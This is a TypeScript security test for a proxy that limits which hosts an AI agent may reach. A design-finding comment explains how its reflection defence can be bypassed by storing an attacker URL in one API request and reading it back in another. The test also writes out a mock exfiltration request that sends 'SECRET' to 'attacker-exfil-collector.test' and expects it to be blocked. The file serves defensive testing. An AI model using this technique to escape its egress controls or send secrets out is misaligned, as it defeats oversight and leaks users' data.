// FINDING (design): the reflection defence compares a response only with the request that produced it. An inspected
// API that stores agent input and returns it later (notes, recent searches, issue comments, a chat history: most
// "trusted primary APIs" do) lets the agent write an attacker URL in one request and read it back in a second,
// clean request; the second response grants the attacker host, whatever its length.

import { afterAll, beforeAll, expect, it } from 'vitest';
import { curl } from '../helpers/clients.js';
import { startHttpOrigin, type TestOrigin } from '../helpers/origin.js';
import { policy, startLeash, type TestLeash } from '../helpers/leash.js';

let api: TestOrigin;
let sink: TestOrigin;
let leash: TestLeash;
const notes: string[] = [];

beforeAll(async () => {
  sink = await startHttpOrigin();
  api = await startHttpOrigin((req, res, body) => {
    if (req.method === 'POST') notes.push(body.toString());
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(req.method === 'POST' ? { ok: true } : { notes: notes.map((n) => ({ text: n })) }));
  });
  leash = await startLeash(
    policy(`
settings:
  dns: { hosts: { notes.test: 127.0.0.1, attacker-exfil-collector.test: 127.0.0.1 } }
  network: { allowCidrs: ["127.0.0.0/8"] }
rules:
  - { name: notes, domain: notes.test, ports: [${api.port}], inspect: [json], effect: allow }
`),
  );
});

afterAll(async () => {
  await leash?.stop();
  await api?.close();
  await sink?.close();
});

it('an attacker host stored through one request and read back by another is not granted', async () => {
  const url = `http://attacker-exfil-collector.test:${sink.port}/`;
  expect(
    (await curl({ url: `http://notes.test:${api.port}/notes`, proxy: leash.url, method: 'POST', data: `see ${url}` }))
      .status,
  ).toBe(200);
  expect((await curl({ url: `http://notes.test:${api.port}/notes`, proxy: leash.url })).status).toBe(200);
  const exfil = await curl({ url: `http://attacker-exfil-collector.test:${sink.port}/c?d=SECRET`, proxy: leash.url });
  expect({ status: exfil.status, sinkSaw: sink.seen.map((s) => s.url) }).toEqual({ status: 403, sinkSaw: [] });
});
